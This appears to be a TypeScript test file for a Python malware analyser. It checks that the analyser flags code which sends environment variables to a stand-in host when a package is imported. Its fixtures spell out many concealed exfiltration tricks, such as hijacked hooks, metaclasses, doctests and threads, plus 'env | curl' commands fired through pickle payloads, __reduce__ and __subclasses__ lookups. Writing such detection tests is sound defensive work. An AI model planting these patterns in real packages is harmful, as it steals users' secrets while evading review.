import t from 'tap'
import { summarisePython } from '../../src/analysis/python/summarise.ts'

const SEND = "requests.post('https://keeper.invalid/e', data=str(dict(os.environ)))"

/** Whether a file sends the environment away as soon as it is imported. */
function sendsOnLoad(code: string): boolean {
  const { flows } = summarisePython('pkg/__init__.py', `import os, requests\n${code.replaceAll('SEND', SEND)}\n`)
  return flows.some(({ source, sink }) => source.kind === 'env' && sink.kind === 'network' && sink.deferred !== true)
}

const CALLED: Readonly<Record<string, string>> = {
  'in the place of a hook of the platform': 'import sys\ndef f(*a):\n    SEND\nsys.excepthook = f',
  'in the place of a builtin': 'import builtins\ndef f(*a):\n    SEND\nbuiltins.open = f',
  'in the place of a method of a library':
    'import socket\ndef f(self, at):\n    SEND\n    return None\nsocket.socket.connect = f',
  'by whatever is imported next':
    'import sys\nclass F:\n    def find_spec(self, name, path=None, target=None):\n        SEND\nsys.meta_path.insert(0, F())',
  'for a name that the module does not have': 'def __getattr__(name):\n    SEND',
  'by a metaclass':
    'class M(type):\n    def __new__(m, n, b, d):\n        SEND\n        return type.__new__(m, n, b, d)\nclass A(metaclass=M):\n    pass',
  'by what is put into a class': 'class D:\n    def __set_name__(self, o, n):\n        SEND\nclass A:\n    x = D()',
  'by an operator': 'class A:\n    def __add__(self, other):\n        SEND\nA() + 1',
  'by a member that is not there': 'class A:\n    def __getattr__(self, name):\n        SEND\nA().x',
  'as the key of an order': 'sorted([1], key=lambda x: SEND)',
  'by what measures it': `import timeit\ntimeit.timeit("${SEND}", number=1)`,
  'by a debugger': `import pdb\npdb.run("${SEND}")`,
  'by an annotation of a parameter': 'def f(x: SEND):\n    pass',
  'by an annotation of what is given back': 'def f(x) -> SEND:\n    pass',
  'by an annotation of a name': 'x: SEND = 1',
  'as the code of another function': `def f():\n    pass\nf.__code__ = compile("${SEND}", "a", "exec")\nf()`,
  'as a function made of code': `(lambda: 0).__class__(compile("${SEND}", "a", "exec"), globals())()`,
  'by a console': `import code\ncode.InteractiveInterpreter().runcode(compile("${SEND}", "a", "exec"))`,
  'as an example in documentation that is tried':
    'def f():\n    """\n    >>> SEND\n    """\nimport doctest\ndoctest.testmod()',
  'by a pool, with what it is given':
    "from concurrent.futures import ThreadPoolExecutor\ndef f(d):\n    requests.post('https://keeper.invalid/e', data=d)\nThreadPoolExecutor().submit(f, str(dict(os.environ)))",
  'as a thread, with what it is given':
    "import threading\ndef f(u, d):\n    requests.post(u, data=d)\nthreading.Thread(target=f, args=('https://keeper.invalid/e', str(dict(os.environ)))).start()",
  'at the end of a block':
    "import contextlib\nwith contextlib.ExitStack() as s:\n    s.callback(requests.post, 'https://keeper.invalid/e', str(dict(os.environ)))",
  'when something is gone':
    "import weakref\nweakref.finalize(A, requests.post, 'https://keeper.invalid/e', str(dict(os.environ)))",
  'by a schedule':
    "import sched\ns = sched.scheduler()\ns.enter(1, 1, requests.post, ('https://keeper.invalid/e', str(dict(os.environ))))\ns.run()",
  'of a package by its whole name in a text':
    "eval(\"__import__('urllib.request').request.urlopen('https://keeper.invalid/e', str(dict(os.environ)).encode())\")",
  'a method of a class, which is given its object first':
    "s = requests.Session()\nrequests.Session.post(s, 'https://keeper.invalid/e', data=str(dict(os.environ)))",
}

t.test('what nobody calls by its name, and that runs', async (t) => {
  for (const [name, code] of Object.entries(CALLED)) t.equal(sendsOnLoad(code), true, name)
})

const WAITING: Readonly<Record<string, string>> = {
  'a method of a class of which nothing is made': 'class A:\n    def __add__(self, other):\n        SEND',
  'a function that is kept under an attribute of an object of its own':
    'class A:\n    pass\ndef f():\n    SEND\na = A()\na.later = f',
  'a finder that is kept in a list of its own':
    'class F:\n    def find_spec(self, name):\n        SEND\nfinders = []\nfinders.append(F())',
  'an annotation that stays a text': 'from __future__ import annotations\ndef f(x: SEND):\n    pass',
  'an example that is tried where the file is the program':
    'def f():\n    """\n    >>> SEND\n    """\nif __name__ == "__main__":\n    import doctest\n    doctest.testmod()',
  'an example that nobody tries': 'def f():\n    """\n    >>> SEND\n    """',
  'a function of that name inside of a class': 'class A:\n    def __getattr__(self, name):\n        SEND',
}

t.test('what waits to be called', async (t) => {
  for (const [name, code] of Object.entries(WAITING)) t.equal(sendsOnLoad(code), false, name)
})

/** What a file starts as soon as it is imported. */
function startsOnLoad(code: string): boolean {
  const { capabilities, references } = summarisePython('pkg/__init__.py', `${code}\n`)
  const places = capabilities.get('process') ?? []
  const isStarted = places.some(({ deferred }) => deferred !== true)
  return isStarted && references.some(({ kind, target }) => kind === 'command' && target.startsWith('env | curl'))
}

const COMMAND = "'env | curl -d @- https://keeper.invalid/e'"
const STARTED: Readonly<Record<string, string>> = {
  'a pickle in the source': `import pickle\npickle.loads(b"cos\\nsystem\\n(S${COMMAND}\\ntR.")`,
  'what an instance says of how it is loaded': `import os, pickle\nclass A:\n    def __reduce__(self):\n        return os.system, (${COMMAND},)\npickle.loads(pickle.dumps(A()))`,
  'one of all classes': `[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0](${COMMAND}, shell=True)`,
  'a name of the globals of a function': `import codecs\ncodecs.open.__globals__["os"].system(${COMMAND})`,
}

t.test('what is started by way of the language', async (t) => {
  for (const [name, code] of Object.entries(STARTED)) t.equal(startsOnLoad(code), true, name)
  const plain: Readonly<Record<string, string>> = {
    'a pickle that calls nothing': 'import pickle\npickle.loads(b"\\x80\\x04K\\x01.")',
    'a class of which nothing is made': `import os\nclass A:\n    def __reduce__(self):\n        return os.system, (${COMMAND},)`,
    'the classes below one of its own': `class A:\n    pass\nfor c in A.__subclasses__():\n    c(${COMMAND})`,
  }
  for (const [name, code] of Object.entries(plain)) t.equal(startsOnLoad(code), false, name)
})
